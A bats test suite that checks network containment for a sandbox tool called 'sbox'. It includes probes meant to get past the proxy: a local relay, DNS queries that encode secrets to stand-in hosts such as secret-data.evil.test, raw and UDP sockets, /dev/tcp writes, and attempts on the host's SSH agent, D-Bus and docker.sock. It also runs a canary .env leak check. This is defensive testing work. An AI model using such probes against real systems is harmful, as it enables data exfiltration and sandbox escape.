# cases/egress E7, E8, E17, containment C17 in networked runs, and what holds when the proxy is gone.
# ctest-labels: egress
# ctest-timeout: 600
load ../helpers/common
load ../helpers/attack
load ../helpers/egress

# Starts `sbox run -o allowed.test` in the background with a command that waits for the file `stop`.
start_waiting_run()
{
    in_host "$SBOX" run "$@" sh -c 'touch up; while [ ! -e stop ]; do sleep 0.05; done'
    wait_for 20 test -e up
}

proxy_of()
{
    local child
    for child in $(descendants "$1"); do
        if [[ $(cat "/proc/$child/comm" 2>/dev/null) == sbox-proxy ]]; then echo "$child"; fi
    done
}

@test "E7: a relay inside the sandbox gets the same answer" {
    cat >relay.py <<'PYTHON'
import socket, sys, threading
def pump(a, b):
    while d := a.recv(65536): b.sendall(d)
    b.shutdown(socket.SHUT_WR)
l = socket.create_server(("127.0.0.1", 9999)); print("up", flush=True)
while True:
    c, _ = l.accept(); s = socket.create_connection(("198.18.0.1", 3128))
    for p in ((c, s), (s, c)): threading.Thread(target=pump, args=p, daemon=True).start()
PYTHON
    nothing_left sbox run -o allowed.test ./direct sh -c '/usr/bin/python3 relay.py >up & while [ ! -s up ]; do sleep 0.05; done
        curl -sS -o /dev/null -w "%{http_connect}\n" -p -x http://127.0.0.1:9999 http://denied.test/
        curl -sS -o /dev/null -w "%{http_code}\n" -x http://127.0.0.1:9999 http://denied.test/; kill $!'
    assert_equal "$output" $'403\n403'
    nobody_came .
}

@test "E7: another sandbox cannot use this run's proxy" {
    start_waiting_run -o allowed.test
    mkdir "$HOME/second"
    cp direct client "$HOME/second"
    cd "$HOME/second"
    # a run without network, a run with another list, by the proxy's address and its descriptors
    nothing_left sbox run sh -c 'curl -sS -m 5 -x http://198.18.0.1:3128 http://allowed.test/; ./client raw 198.18.0.1 3128 2 </dev/null'
    refute_output_has 'at '
    nothing_left sbox run -o other.test curl -sS -m 5 -x http://198.18.0.1:3128 http://allowed.test/
    refute_output_has 'at '
    assert_stderr_has 'refused: allowed.test'
    nothing_left sbox run -o other.test ./direct curl -sS -m 5 --resolve allowed.test:80:198.18.1.0 http://allowed.test/
    refute_output_has 'host allowed.test'
    touch "$P/stop"
    finish 20
}

@test "E7: nothing listens on the host while a networked run lasts" {
    local before
    before=$(ss -HltnuxO | grep -v '^u_str.* ESTAB' | awk '{print $1, $5}' | sort)
    start_waiting_run -o allowed.test
    assert_equal "$(ss -HltnuxO | grep -v '^u_str.* ESTAB' | awk '{print $1, $5}' | sort)" "$before"
    run --separate-stderr bare curl -sS -m 2 -x http://198.18.0.1:3128 http://allowed.test/
    refute_output_has 'at 203'
    touch stop
    finish 20
}

@test "E7: a second process of this user cannot enter the run's namespaces or take its descriptors" {
    start_waiting_run -o allowed.test
    local proxy
    proxy=$(proxy_of "${HOST_PIDS[-1]}")
    [[ -n $proxy ]]
    # from inside another sandbox: neither seen nor reachable
    mkdir "$HOME/second"
    cd "$HOME/second"
    inside sh -c "ls /proc/$proxy/fd; kill -0 $proxy; nsenter -t $proxy -n true"
    [[ $status -ne 0 ]]
    assert_equal "$output" ''
    # its memory and descriptors are closed to other processes of the user
    run --separate-stderr bare ls "/proc/$proxy/fd"
    [[ $status -ne 0 ]]
    touch "$P/stop"
    finish 20
}

@test "E8: nothing but the listed host, whatever the packet" {
    nothing_left sbox run -o allowed.test sh -c '
        curl -sS -m 5 --noproxy "*" http://203.0.113.66/; curl -sS -m 5 --noproxy "*" "http://[2001:db8:1::66]/"
        ./direct curl -sS -m 5 http://denied.test/
        for t in 203.0.113.66/53 192.0.2.53/53 203.0.113.10/443 198.18.1.0/443 198.18.200.200/80 127.0.0.1/80; do
            bash -c "echo data >/dev/udp/$t; : </dev/tcp/$t" 2>/dev/null; done
        ./client raw 192.0.2.10 80 2 </dev/null; ./client raw 2001:db8::10 80 2 </dev/null
        getent ahosts secret-data.evil.test; getent ahosts c2VjcmV0.denied.test; true'
    assert_equal "$output" ''
    nobody_came .
}

@test "E8: raw sockets, ICMP, UDP, multicast, broadcast, other protocols" {
    nothing_left sbox run -o allowed.test ./probe net.icmp.ping net.icmp.ping-v6 net.raw.icmp net.raw.any net.family.packet \
        net.udp.outside net.udp.outside-v6 net.udp.multicast net.udp.broadcast net.udp.lite net.sctp net.dccp \
        net.mptcp.outside net.tcp.fast-open net.tcp.outside net.tcp.outside-v6 net.tcp.metadata net.tcp.private
    assert_equal "$(wc -l <<<"$output")" 18
    refute_output_has $'\tOK'
}

@test "E8: names that are not allowed reach no resolver, however they are asked" {
    nothing_left sbox run -o allowed.test /usr/bin/python3 -c '
import socket, struct
def question(name, kind): return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(
    bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
for server in ("198.18.0.1", "192.0.2.53", "203.0.113.66"):
    for name in ("data.evil.test", "data.notallowed.test", "allowed.test.evil.test", "a" * 63 + ".evil.test"):
        for kind in (1, 28, 16, 15, 255, 252):
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.2 if server != "198.18.0.1" else 5)
                s.sendto(question(name, kind), (server, 53)); print(name, s.recv(512)[3] & 15)
            except OSError as e: pass
    try:
        t = socket.create_connection((server, 53), 2); q = question("tcp.evil.test", 1)
        t.sendall(struct.pack("!H", len(q)) + q); print("tcp", t.recv(512)[5] & 15)
    except OSError as e: pass'
    nobody_came dns
}

@test "E8: a subdomain of an allowed name is looked up when it is dialled, not when it is asked for" {
    nothing_left sbox run -o allowed.test ./direct getent ahosts secret-data.allowed.test
    assert_status 0
    left sbox run -o allowed.test ./direct curl -sS http://www.allowed.test/
    assert_output_has 'host www.allowed.test'
    assert_equal "$(grep -v 'www.allowed.test' <<<"$left" | grep -c '^udp')" 0
}

three_contacts()
{
    (($(wc -l <"$HOME/probe.contacts") >= 3))
}

# What other processes of the host offer; started in $P, so their sockets are in reach of a careless view.
@test "C17: abstract, D-Bus, agents and docker.sock of the host are closed in a networked run, too" {
    plant_targets
    # outside they answer, so that the refusal means something
    run --separate-stderr bare ./probe unix.abstract unix.home unix.workspace
    assert_equal "$(grep -c OK <<<"$output")" 3
    # who listens writes a moment later
    wait_for 10 three_contacts
    : >"$HOME/probe.contacts"
    ENV=("SSH_AUTH_SOCK=$HOME/agent.sock" "DBUS_SESSION_BUS_ADDRESS=unix:path=$HOME/agent.sock")
    # shellcheck disable=SC2046
    inside -o allowed.test --allow-env --allow-host-port 5432 ./probe $("$PROBE" list | grep '^unix\.')
    refute_output_has $'\tOK'
    assert_equal "$(wc -l <<<"$output")" "$("$PROBE" list | grep -c '^unix\.')"
    if [[ -s $HOME/probe.contacts ]]; then fail "$(cat "$HOME/probe.contacts")"; fi
    inside -o allowed.test sh -c 'systemd-run --user true; DOCKER_HOST=unix:///run/docker.sock docker ps; ssh-add -l'
    [[ $status -ne 0 ]]
    remove_targets
}

@test "C17: the host's loopback is not reachable by any of its names" {
    nothing_left sbox run -o allowed.test ./direct sh -c 'for h in 127.0.0.1 localhost ::1 0.0.0.0 192.0.2.10 198.18.0.1 198.18.0.2 2001:2::1; do
        ./client get "$h" 5432; ./client get "$h" 2525; ./client get "$h" 80; done'
    refute_output_has 'HTTP/1.1 200'
    refute_output_has 220
    nobody_came '127.0.0.1'
    nobody_came '::1'
}

@test "E17: the command ends while transfers run: no stray process, no connection left" {
    inside -o allowed.test sh -c './direct curl -sS http://allowed.test/bytes/1000000000000 >/dev/null 2>&1 &
        curl -sS http://allowed.test/bytes/1000000000000 >/dev/null 2>&1 & sleep 0.5; exit 7'
    assert_status 7
    assert_equal "$(proxies)" ''
    assert_no_process bytes/1000000000000
    assert_equal "$(ss -Htn dst 203.0.113.0/24 or dst 2001:db8:1::/48)" ''
}

@test "E17: sbox is killed: the proxy and all of the sandbox end" {
    in_host "$SBOX" run -o allowed.test sh -c 'curl -s http://allowed.test/bytes/1000000000000 >/dev/null & touch up; wait'
    wait_for 20 test -e up
    kill -9 "${HOST_PIDS[-1]}"
    wait_for 10 test -z "$(proxies)" || wait_for 10 eval '[[ -z $(proxies) ]]'
    wait_for 10 eval '! pgrep -f bytes/1000000000000'
}

@test "E17: the proxy is killed: the network ends, the confinement and the run do not" {
    plant_file "$P/.env" "API_KEY=$CANARY"
    in_host "$SBOX" run -o allowed.test sh -c 'curl -sS http://allowed.test/ >first 2>&1; touch up
        while [ ! -e go ]; do sleep 0.05; done
        for n in 1 2; do
            curl -sS -m 5 http://allowed.test/; ./direct curl -sS -m 5 http://allowed.test/
            ./direct curl -sS -m 5 http://203.0.113.66/; ./direct curl -sS -m 5 http://denied.test/
            getent ahosts allowed.test; cat .env; cat /proc/net/route
        done >second 2>errors; ./probe net.dns unix.abstract >third; exit 5'
    wait_for 20 test -e up
    grep -q 'host allowed.test' first
    local proxy
    proxy=$(proxy_of "${HOST_PIDS[-1]}")
    [[ -n $proxy ]]
    mark_wire
    local before=$WIRE_MARK
    kill -9 "$proxy"
    wait_for 5 has_ended "$proxy"
    touch go
    finish 60
    assert_equal "$status" 5
    mark_wire
    if sed -n "$((before + 1)),${WIRE_MARK}p" "$WIRE" | grep -v '\.mark\.example$'; then fail "left after the proxy's end"; fi
    if grep -E 'at [0-9]' second; then fail "reached without a proxy"; fi
    if grep -q "$CANARY" second; then fail "a mask fell"; fi
    grep -q 'sbox-proxy' "$T/host.err"
}

@test "E17: the supervisor takes a proxy that lies for untrusted: it cannot be stopped from inside" {
    inside -o allowed.test sh -c 'kill -9 -1 2>/dev/null; true' || true
    inside -o allowed.test sh -c 'for p in /proc/[0-9]*; do cat $p/comm; done'
    refute_output_has sbox-proxy
}

@test "attack table: a networked run answers each row as an offline one does, but for those listed" {
    plant_targets
    attack "$SBOX" run -o allowed.test ./probe all >"$T/networked.table"
    # NAME<tab>RESULT: what a networked run changes on purpose
    awk -F '\t' 'NR == FNR { changed[$1] = $2; next } /^#/ { next }
        { print $1 "\t" ($1 in changed ? changed[$1] : $2) }' \
        "$E2E/attack-table-networked.expected" "$E2E/attack-table.expected" >"$T/wanted.table"
    compare_tables "$T/wanted.table" "$T/networked.table"
    if [[ -s $HOME/probe.contacts ]]; then fail "$(sort "$HOME/probe.contacts" | uniq -c)"; fi
    remove_targets
}
